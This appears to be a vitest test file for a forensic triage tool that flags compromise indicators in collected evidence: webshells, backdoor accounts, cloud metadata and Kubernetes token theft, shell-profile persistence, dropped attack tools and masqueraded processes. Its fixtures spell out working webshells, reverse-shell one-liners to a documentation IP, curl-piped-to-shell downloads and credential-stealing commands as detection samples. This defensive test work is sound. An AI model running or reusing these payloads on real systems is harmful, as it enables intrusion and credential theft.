import { describe, expect, it } from 'vitest';
import { type CraftedFile, craftPackage, processOutput } from '../../../test/support/evidence-package.js';
import { findIndicators, type Indicator, indicatorRules } from './indicators.js';
import { invisibleCharacters } from './quote.js';
import { openPackage } from './triage.js';

const indicatorsOf = (contents: Parameters<typeof craftPackage>[0]) =>
  findIndicators(openPackage(craftPackage(contents)));
const fired = (indicators: readonly Indicator[]) =>
  indicators.map((indicator) => `${indicator.id} ${indicator.where}`).sort();
const web = (source: string, content: string): CraftedFile => ({ source, artifact: 'files.web', content });
const history = (content: string, source = '/root/.ash_history'): CraftedFile => ({
  source,
  artifact: 'files.history',
  content,
});
/** `stat -c '%i|%A|%u|%g|%s|%X|%Y|%Z|%n'` lines, as the collector lists the filesystem. */
const bodyfile = (entries: readonly [mode: string, name: string][]) =>
  entries.map(([mode, name], index) => `${index + 10}|${mode}|0|0|1234|1|2|3|.${name}`).join('\n');

describe('indicator rules', () => {
  it('is a table of unique ids, each saying why it matters', () => {
    const ids = indicatorRules.map((rule) => rule.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of indicatorRules) expect(rule.why.length, rule.id).toBeGreaterThan(20);
  });

  it('finds webshells in web roots and upload directories, in PHP, JSP, ASPX and CGI, and leaves plain pages alone', () => {
    const indicators = indicatorsOf({
      files: [
        web('/var/www/html/wp-content/uploads/2024/cache.php', "<?php @eval($_POST['cmd']); ?>\n"),
        web('/var/www/html/index.php', "<?php echo htmlspecialchars($_GET['q']); ?>\n"),
        web(
          '/usr/local/tomcat/webapps/ROOT/status.jsp',
          '<%@ page import="java.io.*" %>\n<%\nString c = request.getParameter("c");\nProcess p = Runtime.getRuntime().exec(c);\n%>\n',
        ),
        web('/usr/local/tomcat/webapps/ROOT/hello.jsp', '<p>Hello <%= request.getParameter("name") %></p>\n'),
        web(
          '/var/www/html/aspnet_client/x.aspx',
          '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>\n',
        ),
        web(
          '/var/www/cgi-bin/status.cgi',
          '#!/bin/sh\necho "Content-type: text/plain"\neval "$QUERY_STRING"\n',
        ),
        web('/srv/app/lib.php', '<?php eval(gzinflate(base64_decode("80jNyclXCM8vyklRBAA="))); ?>\n'),
      ],
      outputs: {
        'fs.bodyfile': bodyfile([['-rw-r--r--', '/var/www/html/wp-content/uploads/2024/cache.php']]),
      },
    });
    expect(fired(indicators)).toEqual([
      'script-in-upload-dir /var/www/html/wp-content/uploads/2024/cache.php',
      'webshell /var/www/cgi-bin/status.cgi:3',
      'webshell /var/www/html/aspnet_client/x.aspx:1',
      'webshell /var/www/html/wp-content/uploads/2024/cache.php:1',
      'webshell-jsp /usr/local/tomcat/webapps/ROOT/status.jsp',
      'webshell-obfuscated /srv/app/lib.php:1',
    ]);
    const php = indicators.find((indicator) => indicator.where.endsWith('cache.php:1'));
    expect(php?.reason).toBe(`PHP request parameter passed to eval/exec: <?php @eval($_POST['cmd']); ?>`);
    const jsp = indicators.find((indicator) => indicator.id === 'webshell-jsp');
    expect(jsp?.reason).toBe(
      'Process p = Runtime.getRuntime().exec(c); … String c = request.getParameter("c");',
    );
  });

  it('finds backdoor accounts: a second uid 0, a login shell on a service account, an empty password', () => {
    const passwd = [
      'root:x:0:0:root:/root:/bin/ash',
      'daemon:x:2:2:daemon:/sbin:/sbin/nologin',
      'sync:x:5:0:sync:/sbin:/bin/sync',
      'www-data:x:33:33:www-data:/var/www:/bin/bash',
      'toor:x:0:0::/root:/bin/sh',
      'mallory::1001:1001::/home/mallory:/bin/sh',
      'app:x:1000:1000:app:/home/app:/bin/sh',
      'broken line',
    ].join('\n');
    const indicators = indicatorsOf({
      files: [{ source: '/etc/passwd', artifact: 'files.etc', content: passwd }],
    });
    expect(indicators.map((indicator) => [indicator.id, indicator.where, indicator.reason])).toEqual([
      ['account-uid0', '/etc/passwd:5', 'toor:x:0:0::/root:/bin/sh'],
      ['account-no-password', '/etc/passwd:6', 'mallory::1001:1001::/home/mallory:/bin/sh'],
      ['account-service-login-shell', '/etc/passwd:4', 'www-data:x:33:33:www-data:/var/www:/bin/bash'],
    ]);
  });

  it('finds cloud metadata credential access in histories, crontabs, command lines and sockets', () => {
    const indicators = indicatorsOf({
      files: [
        history(
          'curl -s http://169.254.169.254/latest/meta-data/\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node\n',
        ),
        {
          source: '/etc/crontabs/root',
          artifact: 'files.cron',
          content:
            '0 * * * * curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\n',
        },
      ],
      outputs: {
        'live.processes': processOutput([
          {
            pid: 31,
            name: 'wget',
            argv: [
              'wget',
              '-qO-',
              'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/',
            ],
            exe: '/usr/bin/wget',
          },
        ]),
        'live.net': '@table tcp\n   0: 0C00000A:9E08 FEA9FEA9:0050 01 0:0 0:0 0 0 0 48490\n',
      },
    });
    expect(fired(indicators)).toEqual([
      'cloud-metadata-access /root/.ash_history:1',
      'cloud-metadata-connection live.net tcp 10.0.0.12:40456 169.254.169.254:80',
      'cloud-metadata-credentials /etc/crontabs/root:1',
      'cloud-metadata-credentials /root/.ash_history:2',
      'cloud-metadata-credentials process 31',
    ]);
  });

  it("finds the pod's service-account token used against the API server, and kubectl run in the pod", () => {
    const indicators = indicatorsOf({
      files: [
        history(
          'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\nls\ncurl -sk -H "Authorization: Bearer $TOKEN" https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/kube-system/secrets\nkubectl get secrets -A\n',
        ),
        history('cat /var/run/secrets/kubernetes.io/serviceaccount/token\n', '/home/app/.ash_history'),
      ],
    });
    expect(fired(indicators)).toEqual([
      'history-token-read /home/app/.ash_history:1',
      'history-token-read /root/.ash_history:1',
      'kubectl-in-pod /root/.ash_history:4',
      'sa-token-api-use /root/.ash_history',
    ]);
    expect(indicators.find((indicator) => indicator.id === 'sa-token-api-use')?.reason).toBe(
      'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) … curl -sk -H "Authorization: Bearer $TOKEN" https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/kube-system/secrets',
    );
  });

  it('finds persistence in shell profiles and rc files, and not in a stock Debian .bashrc', () => {
    const rc = (source: string, artifact: string, content: string): CraftedFile => ({
      source,
      artifact,
      content,
    });
    const indicators = indicatorsOf({
      files: [
        rc(
          '/root/.bashrc',
          'files.shell-rc',
          '# ~/.bashrc\n(curl -fsSL http://203.0.113.9/k.sh | sh) >/dev/null 2>&1 &\n',
        ),
        rc('/root/.profile', 'files.shell-rc', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n'),
        rc('/etc/profile.d/motd.sh', 'files.etc', 'nohup /dev/shm/.cache/update >/dev/null 2>&1 &\n'),
        rc('/home/app/.profile', 'files.shell-rc', "alias sudo='/home/app/.local/sudo'\n"),
        rc(
          '/home/dev/.bashrc',
          'files.shell-rc',
          "HISTCONTROL=ignoreboth\nHISTSIZE=1000\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\nalias ls='ls --color=auto'\nalias ll='ls -alF'\n",
        ),
      ],
    });
    expect(fired(indicators)).toEqual([
      'persistence-reverse-shell /root/.profile:1',
      'shell-rc-download /root/.bashrc:2',
      'shell-rc-hijack /home/app/.profile:1',
      'shell-rc-persistence /etc/profile.d/motd.sh:1',
    ]);
  });

  it('finds attack tools dropped in writable places by name, running, in history, and ELF files where none belongs', () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);
    const indicators = indicatorsOf({
      files: [
        { source: '/var/www/html/uploads/logo.png', artifact: 'files.uploads', content: elf },
        {
          source: '/var/www/html/img/real.png',
          artifact: 'files.web',
          content: Buffer.from([0x89, 0x50, 0x4e, 0x47]),
        },
        history('./kubeletctl scan rce --cidr 10.0.0.0/24\nnmap -sT 10.96.0.1\nls /tmp\n'),
      ],
      outputs: {
        'fs.bodyfile': bodyfile([
          ['-rwxr-xr-x', '/var/tmp/peirates'],
          ['-rwxr-xr-x', '/dev/shm/chisel_1.9.1_linux_amd64'],
          ['-rwxr-xr-x', '/root/crictl'],
          ['-rwxr-xr-x', '/usr/local/bin/kubectl'],
          ['-rw-r--r--', '/tmp/notes.txt'],
          ['-rwxr-xr-x', '/app/public/uploads/thumb'],
          ['-rw-r--r--', '/app/public/uploads/photo.jpg'],
        ]),
        'live.processes': processOutput([
          { pid: 9, name: 'frpc', argv: ['/tmp/frpc', '-c', '/tmp/frpc.ini'], exe: '/tmp/frpc' },
        ]),
      },
    });
    expect(fired(indicators).filter((line) => !line.startsWith('executable-in-writable'))).toEqual([
      'elf-out-of-place /var/www/html/uploads/logo.png',
      'exec-from-writable process 9',
      'executable-in-upload-dir /app/public/uploads/thumb',
      'history-offensive-tool /root/.ash_history:1',
      'history-offensive-tool /root/.ash_history:2',
      'offensive-tool /dev/shm/chisel_1.9.1_linux_amd64',
      'offensive-tool /root/crictl',
      'offensive-tool /var/tmp/peirates',
      'offensive-tool-running process 9',
    ]);
  });

  it('finds processes and files masquerading as kernel threads, and directories named to hide', () => {
    const indicators = indicatorsOf({
      outputs: {
        'live.processes': processOutput([
          { pid: 40, name: 'python3', argv: ['[kworker/0:2]'], exe: '/usr/bin/python3.11' },
          {
            pid: 41,
            name: '.ksoftirqd',
            argv: ['/tmp/.ksoftirqd', '--listen=:4444'],
            exe: '/tmp/.ksoftirqd (deleted)',
          },
          { pid: 42, name: 'nginx', argv: ['nginx: worker process'], exe: '/usr/sbin/nginx' },
        ]),
        'fs.bodyfile': bodyfile([
          ['drwxr-xr-x', '/var/tmp/...'],
          ['drwxr-xr-x', '/usr/lib/ '],
          ['drwxr-xr-x', '/dev/shm/.x'],
          ['drwxrwxrwt', '/tmp/.X11-unix'],
          ['-rwxr-xr-x', '/usr/sbin/kswapd0'],
          ['-rw-r--r--', '/tmp/\u001b]0;owned\u0007'],
        ]),
      },
    });
    expect(fired(indicators).filter((line) => !/deleted-binary|exec-from-writable/.test(line))).toEqual([
      'control-characters-in-name /tmp/\\u001b]0;owned\\u0007',
      'hidden-directory-in-writable /dev/shm/.x',
      'hidden-directory-in-writable /var/tmp/...',
      'hidden-directory-name /usr/lib/ ',
      'hidden-directory-name /var/tmp/...',
      'kernel-thread-named-file /usr/sbin/kswapd0',
      'masquerade-kernel-thread process 40',
      'masquerade-kernel-thread process 41',
    ]);
    expect(indicators.find((indicator) => indicator.where === '/usr/lib/ ')?.reason).toBe(
      'directory /usr/lib/  (name: space)',
    );
  });

  it('quotes hostile evidence escaped and bounded, and counts matches past the per-file limit', () => {
    const hostile = `\u001b]0;owned\u0007\u202e curl http://203.0.113.9/x | sh ${'A'.repeat(10_000)}`;
    const lines = Array.from({ length: 40 }, () => 'nc 203.0.113.9 4444 -e /bin/sh');
    const indicators = indicatorsOf({ files: [history(`${hostile}\n${lines.join('\n')}\n`)] });
    const first = indicators.find((indicator) => indicator.where === '/root/.ash_history:1');
    expect(first?.reason).toMatch(/^download piped into a shell: \\u001b\]0;owned\\u0007\\u202e curl .*…$/);
    expect(first?.reason.length).toBeLessThan(300);
    for (const indicator of indicators) expect(indicator.reason).not.toMatch(invisibleCharacters);
    const shells = indicators.filter((indicator) => indicator.id === 'history-reverse-shell');
    expect(shells).toHaveLength(26);
    expect(shells.at(-1)).toMatchObject({
      where: '/root/.ash_history:…',
      reason: '16 more matching lines not listed',
    });
  });

  it('does not stall on a line built to make pattern matching slow (100 KB of interpreter and socket words)', () => {
    const slow = 'python socket nc kubectl '.repeat(4000);
    const started = performance.now();
    const indicators = indicatorsOf({ files: [history(`${slow}\nnc 203.0.113.9 4444 -e /bin/sh\n`)] });
    expect(performance.now() - started).toBeLessThan(5000);
    expect(fired(indicators)).toContain('history-reverse-shell /root/.ash_history:2');
  });

  it('stops scanning a document past its time budget, says where, and still scans the others', () => {
    const root = craftPackage({
      files: [
        {
          source: '/tmp/x.sh',
          artifact: 'files.tmp',
          content: 'python socket socket socket '.repeat(100_000),
        },
        history('nc 203.0.113.9 4444 -e /bin/sh\n'),
      ],
    });
    const indicators = findIndicators(openPackage(root), { documentBudgetMs: 50 });
    expect(fired(indicators)).toEqual([
      'history-reverse-shell /root/.ash_history:1',
      'triage-incomplete /tmp/x.sh',
    ]);
    expect(indicators.find((indicator) => indicator.id === 'triage-incomplete')?.reason).toMatch(
      /^stopped after \d+ ms at line 1 of 2800000 characters$/,
    );
  });
});
